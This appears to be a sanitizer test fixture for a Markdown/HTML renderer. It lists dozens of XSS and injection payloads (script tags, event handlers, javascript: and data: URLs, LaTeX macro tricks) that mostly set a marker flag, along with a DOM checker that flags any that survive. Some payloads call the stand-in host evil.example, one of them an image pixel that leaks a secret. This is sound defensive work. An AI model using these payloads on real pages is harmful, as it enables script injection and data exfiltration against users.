// Texts that would run, load or tell something if a page took them for more than text.
export const HOSTILE = [
  `<script>window.pwned = 1</script>`,
  `<img src=x onerror="window.pwned=2">`,
  `<svg/onload=window.pwned=3>`,
  `<iframe src="javascript:parent.pwned=4"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=5</script>"></iframe>`,
  `<a href="javascript:window.pwned=6">click</a>`,
  `[click](javascript:window.pwned=7)`,
  `[click](JaVaScRiPt:window.pwned=8)`,
  `[click](&#106;avascript:window.pwned=9)`,
  `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `![x](https://evil.example/pixel.png?said=secret)`,
  `![x](javascript:window.pwned=10)`,
  `<https://evil.example/"onmouseover="window.pwned=11>`,
  `[a](https://evil.example/ "x\\" onclick=\\"window.pwned=12")`,
  `<style>@import url(https://evil.example/x.css); body{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action=https://evil.example/><input name=x autofocus onfocus=window.pwned=13></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=14>`,
  `<details open ontoggle=window.pwned=15>`,
  `<video><source onerror=window.pwned=16>`,
  `<body onload=window.pwned=17>`,
  `<template><script>window.pwned=18</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=window.pwned=19>">`,
  `<div id="app"><form id=main><input name=nodeName></form>`,
  "```html\n<script>window.pwned=20</script>\n```",
  "```\" onclick=\"window.pwned=21\n<img src=x onerror=window.pwned=22>\n```",
  "```<img/src=x/onerror=window.pwned=23>\ncode\n```",
  "`<img src=x onerror=window.pwned=24>`",
  `$\\href{javascript:window.pwned=25}{x}$`,
  `$\\htmlData{onclick=window.pwned=26}{x}$ $\\htmlStyle{position:fixed}{x}$`,
  `$\\includegraphics{https://evil.example/x.png}$`,
  `$$\\text{<img src=x onerror=window.pwned=27>}$$`,
  `$\\unicode{<img src=x onerror=window.pwned=28>}$`,
  `$\\vec{a} \\boxed{b} \\color{red}{c} \\colorbox{blue}{d} \\rule{1em}{1em}$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `| a |\n|:-:|\n| <img src=x onerror=window.pwned=29> |`,
  `[x]: javascript:window.pwned=30\n\n[x]`,
  `\u202e<script>window.pwned=31</script>`,
  `<a href="https://evil.example" target=_self ping=https://evil.example/>x</a>`,
  `<object data="https://evil.example/x"></object><embed src="https://evil.example/x">`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<img srcset="https://evil.example/x 1x">`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `{{constructor.constructor('window.pwned=32')()}}`,
  `</textarea><script>window.pwned=33</script>`,
  `</title><script>window.pwned=34</script>`,
  `"><script>window.pwned=35</script>`,
  `' autofocus onfocus='window.pwned=36`,
];

/** Runs in the page: what there is that must not be. */
export function foul() {
  const found = [];
  if ("pwned" in window) found.push(`pwned ${window.pwned}`);
  const root = document.getElementById("app");
  for (const element of root.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (/^(script|iframe|object|embed|link|meta|base|style|video|source|template|mglyph)$/.test(tag)) found.push(tag);
    for (const { name, value } of element.attributes) {
      if (/^on/.test(name)) found.push(`${tag} ${name}`);
      if (/^(href|src|action|xlink:href|ping|srcset)$/.test(name) && !/^(https:|mailto:|#|blob:|data:image\/|docs$)/.test(value)) {
        found.push(`${tag} ${name}=${value}`);
      }
    }
    if (tag === "img" && !/^(data:image|blob:)/.test(element.getAttribute("src") ?? "")) found.push("img");
  }
  return found;
}
